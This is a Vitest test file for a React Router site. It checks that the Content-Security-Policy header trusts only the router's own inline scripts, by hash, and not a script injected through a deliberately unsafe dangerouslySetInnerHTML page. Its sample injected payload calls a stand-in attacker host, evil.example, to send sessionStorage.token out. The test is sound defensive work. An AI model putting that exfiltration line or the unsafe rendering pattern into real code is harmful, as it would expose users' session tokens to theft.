import { createHash } from 'node:crypto'
import {
  createRequestHandler,
  Outlet,
  RouterContextProvider,
  Scripts,
  ScrollRestoration,
  type ServerBuild,
  useLoaderData,
} from 'react-router'
import { expect, it } from 'vitest'
import { planOf, untouched } from '../../content/site-plan-rules.ts'
import { drawingNonce, reportFault } from '../../web/context.ts'
import * as entry from '../../web/entry.server.tsx'
import { drawPage } from './draw-page.ts'
import { readAddress } from './page-address-rules.ts'

const injected = 'fetch("//evil.example/" + sessionStorage.token)'

function Root() {
  return (
    <html lang="de">
      <body>
        <Outlet />
        <ScrollRestoration />
        <Scripts />
      </body>
    </html>
  )
}

/** A page that shows what its loader says as it stands. */
function Careless() {
  // biome-ignore lint/security/noDangerouslySetInnerHtml: this is what the test is about.
  return <div dangerouslySetInnerHTML={{ __html: useLoaderData() }} />
}

const route = {
  hasLoader: true,
  hasAction: false,
  hasClientLoader: false,
  hasClientAction: false,
  hasErrorBoundary: false,
}
const asset = { ...route, hasClientMiddleware: false, hasDefaultExport: true, imports: [] }

/** The smallest site that the router can draw, with our own way of doing it. */
const build = {
  entry: { module: entry },
  routes: {
    root: { id: 'root', path: '', module: { default: Root } },
    search: {
      id: 'search',
      parentId: 'root',
      path: 'search',
      module: { default: Careless, loader: () => `<script>${injected}</script><style>evil{}</style>` },
    },
  },
  assets: {
    entry: { module: '/assets/entry.js', imports: [] },
    routes: {
      root: { ...asset, id: 'root', path: '', hasLoader: false, module: '/assets/root.js' },
      search: { ...asset, id: 'search', parentId: 'root', path: 'search', module: '/assets/search.js' },
    },
    url: '/assets/manifest.js',
    version: '1',
  },
  publicPath: '/',
  assetsBuildDirectory: 'client',
  future: {},
  ssr: true,
  isSpaMode: false,
  prerender: [],
  routeDiscovery: { mode: 'initial', manifestPath: '/__manifest' },
} as unknown as ServerBuild

it('allows the scripts of the router by their hashes, and none that a loader has let through', async () => {
  const handle = createRequestHandler(build, 'production')
  const faults: unknown[] = []
  const page = await drawPage(
    {
      render: (request, { nonce, report }) => {
        const context = new RouterContextProvider()
        context.set(drawingNonce, nonce)
        context.set(reportFault, report)
        return handle(request, context)
      },
      styleSheet: () => undefined,
      publicOrigin: 'https://aurora.example',
    },
    readAddress('/search', '?term=Fest', planOf(untouched)),
    { report: (fault) => faults.push(fault), over: new AbortController().signal },
  )
  expect(faults).toEqual([])
  const html = new TextDecoder().decode(await page.encode('identity'))
  const scripts = [...html.matchAll(/<script[^>]*>([\s\S]*?)<\/script>/g)].map(([, text = '']) => text)
  const [foreign, ...own] = scripts
  expect(foreign).toBe(injected)
  // Where to scroll to, what the app starts with, its modules, its data, and the end of them.
  expect(own).toHaveLength(5)
  const policy = page.headers['content-security-policy']
  const hashOf = (text: string) => createHash('sha256').update(text).digest('base64')
  for (const text of own) expect(policy).toContain(hashOf(text))
  for (const text of [injected, 'evil{}']) expect(policy).not.toContain(hashOf(text))
  expect(html).toContain('<style>evil{}</style>')
  expect(html).not.toContain('nonce=')
})
